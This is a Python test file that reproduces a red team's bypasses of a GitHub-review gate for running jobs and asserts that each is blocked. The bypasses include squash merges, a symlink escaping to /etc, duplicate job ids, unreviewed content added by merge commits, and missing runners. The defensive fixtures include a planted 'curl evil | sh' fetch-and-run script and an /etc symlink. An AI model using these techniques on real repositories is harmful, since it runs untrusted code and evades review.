"""The red team's bypasses of the GitHub review path (notes/redteam-gh.md), each closed.

Each test drives a real gate (real git, real keys, the loopback API) into the attack and
asserts the job did not run and why; each fails on the code before its fix.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from tests.helpers.fake_github import FakeGitHub, PullRequest, ago, user
from tests.helpers.github_world import ALICE, BOB, DAVE, GITHUB, GithubGate
from tests.helpers.repos import World, job_yaml, policy_yaml

OFFLINE = {"GITHUB_API_URL": "http://127.0.0.1:9", "GITHUB_REPOSITORY": "acme/gate"}


@pytest.fixture
def fake() -> Iterator[FakeGitHub]:
    with FakeGitHub() as server:
        yield server


@pytest.fixture
def gate(world: World, fake: FakeGitHub) -> GithubGate:
    return GithubGate(world, fake)


def run(gate: GithubGate, **env: str) -> dict[str, Any]:
    result = gate.run_once(env=env)
    assert result.code in (0, 1), result.err
    return result.json()  # type: ignore[no-any-return]


def started(gate: GithubGate) -> list[str]:
    return sorted(str(r["job"]) for r in gate.world.events("started"))


def reasons(out: dict[str, Any]) -> dict[str, str]:
    return {str(j["job"]): str(j.get("reason") or "") for j in out["jobs"]}


# --- F1: a squash is judged with the facts of a merge of the PR head ------------------------------


def test_f1_squash_keeps_require_signed_proposals(gate: GithubGate) -> None:
    gate.setup(require_signed_proposals=True)
    pr = gate.open_pr("backup")  # mallory's unsigned commit
    gate.fake.review(pr.number, BOB, "APPROVED", pr.head_sha)
    gate.merge(pr, method="squash")
    out = run(gate)
    assert started(gate) == []
    assert reasons(out)["backup"].startswith("require_signed_proposals: commit ")


def test_f1_squash_excludes_the_git_author_of_the_job(gate: GithubGate) -> None:
    """bob writes the job (git author bob) and pushes it from an unlisted account (999), then
    approves it with his listed one: as for a merge commit, the author of the job does not count."""
    w = gate.world
    gate.setup()
    pr = gate.open_pr("backup", who=w.bob, author=999)
    gate.fake.review(pr.number, BOB, "APPROVED", pr.head_sha)
    gate.merge(pr, method="squash")
    out = run(gate)
    assert started(gate) == []
    assert "bob (review 1 on PR #1: author of " in reasons(out)["backup"]


def _pr_with_symlink(gate: GithubGate) -> PullRequest:
    w = gate.world
    pr = gate.open_pr("backup")
    w.git("proposer", "checkout", "-q", "backup")
    (w.clone("proposer") / "escape").symlink_to("/etc")
    w.git("proposer", "add", "-A")
    w.git("proposer", "commit", "-q", "-m", "link", who=w.mallory)
    w.git("proposer", "push", "-q", "-f", "origin", "backup")
    head = w.git("proposer", "rev-parse", "HEAD")
    w.git("proposer", "push", "-q", "-f", "origin", f"{head}:refs/pull/{pr.number}/head")
    pr.commits.append(gate._commit(head, DAVE))
    pr.head_sha = head
    gate.fake.review(pr.number, BOB, "APPROVED", head)
    return pr


def test_f1_squash_refuses_an_escaping_symlink(gate: GithubGate) -> None:
    gate.setup()
    gate.merge(_pr_with_symlink(gate), method="squash")
    out = run(gate)
    assert started(gate) == [] and "outside the workspace" in reasons(out)["backup"]


def test_f1_squash_refuses_a_duplicate_job_id(gate: GithubGate) -> None:
    gate.setup()
    first = gate.open_pr("backup")
    gate.fake.review(first.number, ALICE, "APPROVED", first.head_sha)
    gate.merge(first)
    assert run(gate)["jobs"][0]["status"] == "succeeded"
    pr = gate.open_pr("again", {"jobs/other/backup.yaml": job_yaml("backup", ["echo", "twice"])})
    gate.fake.review(pr.number, ALICE, "APPROVED", pr.head_sha)
    gate.merge(pr, method="squash")
    out = run(gate)
    assert started(gate) == ["backup"]
    assert "job id 'backup' is not unique" in reasons(out)["backup"]


def test_f1_a_policy_change_by_squash_is_judged_like_a_merge(gate: GithubGate) -> None:
    """With the facts of a merge a squash carries the new policy's files: two eligible reviews adopt it."""
    w = gate.world
    gate.setup(policy_approvals_required=2)
    policy = w.git("admin", "show", "origin/approved:policy/policy.yaml") + "\nkeep_output: true\n"
    pr = gate.open_pr("policy", {"policy/policy.yaml": policy})
    gate.fake.review(pr.number, ALICE, "APPROVED", pr.head_sha)
    gate.fake.review(pr.number, BOB, "APPROVED", pr.head_sha)
    gate.merge(pr, method="squash")
    out = run(gate)
    assert [c["status"] for c in out["policy_changes"]] == ["adopted"], out["policy_changes"]


# --- F2: what a merge commit itself wrote is not covered by the PR's reviews ----------------------


def _merge_with_extra(gate: GithubGate, pr: PullRequest, extra: dict[str, str]) -> str:
    """A commit with parents [approved, PR head] (what GitHub takes as the PR's merge) whose tree adds more."""
    w = gate.world
    where = "approver"
    w.git(where, "fetch", "-q", "origin")
    w.git(where, "checkout", "-q", "-B", "approved", "origin/approved")
    w.git(where, "merge", "-q", "--no-ff", "--no-commit", pr.head_sha, who=w.mallory, env=GITHUB)
    w.write(where, extra)
    w.git(where, "add", "-A")
    w.git(where, "commit", "-q", "-m", f"Merge pull request #{pr.number} from acme/{pr.head_ref}", who=w.mallory, env=GITHUB)
    w.git(where, "push", "-q", "origin", "approved")
    sha = w.git(where, "rev-parse", "HEAD")
    pr.merged, pr.merge_commit_sha, pr.merged_at = True, sha, ago(0)
    return sha


def test_f2_reviews_do_not_approve_a_job_the_merge_commit_added(gate: GithubGate) -> None:
    gate.setup()
    pr = gate.open_pr("backup")
    gate.fake.review(pr.number, ALICE, "APPROVED", pr.head_sha)
    _merge_with_extra(gate, pr, {"jobs/evil.yaml": job_yaml("evil", ["echo", "pwned"])})
    out = run(gate)
    assert "evil" not in started(gate)
    assert "alice (review 1 on PR #1: the merge itself wrote this content" in reasons(out)["evil"]


def test_f2_reviews_do_not_approve_a_script_the_merge_commit_added(gate: GithubGate) -> None:
    gate.setup()
    pr = gate.open_pr("backup")
    gate.fake.review(pr.number, ALICE, "APPROVED", pr.head_sha)
    _merge_with_extra(gate, pr, {"scripts/evil.sh": "curl evil | sh\n"})
    out = run(gate)
    assert started(gate) == []
    assert "holds changes that no signed approval covers: scripts/evil.sh" in reasons(out)["backup"]


# --- F3: review approvals need runners (stored evidence is authenticated) ----------------------------


def test_f3_github_ids_without_runners_are_a_configuration_error(gate: GithubGate) -> None:
    w = gate.world
    gate.setup(runners=[])
    for args in (("run", "--once", "--json"), ("check", "origin/approved")):
        result = w.mg(*args, env=gate.fake.env())
        assert result.code == 2, result.out + result.err
        assert "alice has a GitHub id (review approvals) but the policy lists no runners" in result.err
        assert "(policy/policy.yaml:" in result.err and "hint: list the runner's public key under `runners`" in result.err


def test_f3_a_policy_change_dropping_runners_is_rejected(gate: GithubGate) -> None:
    w = gate.world
    gate.setup(policy_approvals_required=2)
    people = [w.alice.approver_entry(github=ALICE), w.bob.approver_entry(github=BOB), w.carol.approver_entry(github=103)]
    pr = gate.open_pr("policy", {"policy/policy.yaml": policy_yaml(people, [{"program": "echo"}], policy_approvals_required=2)})
    gate.fake.review(pr.number, ALICE, "APPROVED", pr.head_sha)
    gate.fake.review(pr.number, BOB, "APPROVED", pr.head_sha)
    gate.merge(pr)
    [change] = run(gate)["policy_changes"]
    assert change["status"] == "rejected" and "lists no runners" in change["reason"]


_ = user
